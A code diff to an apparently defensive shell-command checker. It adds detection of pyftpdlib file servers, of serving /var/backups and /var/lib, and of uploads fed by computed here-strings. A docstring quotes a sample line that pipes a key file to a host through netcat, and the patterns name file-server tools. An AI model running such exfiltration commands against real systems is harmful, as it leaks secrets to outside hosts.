@@ -864,7 +864,7 @@ def _scripted_put(cmd: Cmd, an: Analysis) -> list[Hit]:
 # into (`cd /root && python3 -m http.server`), or a relative folder named from there.
 _FILE_SERVERS: dict[str, tuple[str, tuple[str, ...]]] = {
     "python": (
-        r"(?:^|\s)-m\s*(?:http\.server|SimpleHTTPServer|uploadserver)\b",
+        r"(?:^|\s)-m\s*(?:http\.server|SimpleHTTPServer|uploadserver|pyftpdlib)\b",
         ("directory", "d"),
     ),
     "php": (r"(?:^|\s)-S\s*\S", ("t",)),
@@ -887,7 +887,9 @@ def served_folder(cmd: Cmd, an: Analysis) -> list[Hit]:
     for cwd in an.cwds:
         folder = resolve(named or ".", cwd) if cwd is not None else None
         if folder is not None and (
-            classify(folder) in ("root", "critical", "home", "dotfile") or is_secret_dir(folder)
+            classify(folder) in ("root", "critical", "home", "dotfile")
+            or is_secret_dir(folder)
+            or folder in ("/var/backups", "/var/lib")  # dumps and databases
         ):
             return [
                 Hit(
@@ -935,8 +937,11 @@ def stdin_uploads(cmd: Cmd) -> list[Hit]:
         ),
         None,
     )
+    fed = _computed_input(cmd.simple)
     if source is not None:
         what, span = source.text, source.span
+    elif fed is not None:
+        what, span = "text a command computes", fed
     elif (
         cmd.simple.upstream is not None
         and _upstream_name(cmd) not in _LITERAL_PRODUCERS
@@ -955,6 +960,17 @@ def stdin_uploads(cmd: Cmd) -> list[Hit]:
             "unknown",
         )
     ]
+
+
+def _computed_input(simple: Simple) -> tuple[int, int] | None:
+    """The span of a here-string or unquoted here-document on `simple`'s input whose text
+    a command substitution computes (`nc HOST 80 <<< "$(cat key)"`), or None."""
+    for r in simple.redirects:
+        if r.op == "<<<" and r.target is not None and ("$(" in r.target.raw or "`" in r.target.raw):
+            return r.span
+    if simple.heredoc is not None and ("$(" in simple.heredoc[0] or "`" in simple.heredoc[0]):
+        return simple.heredoc[1]
+    return None
 
 
 def _run_by_xargs(cmd: Cmd) -> bool:
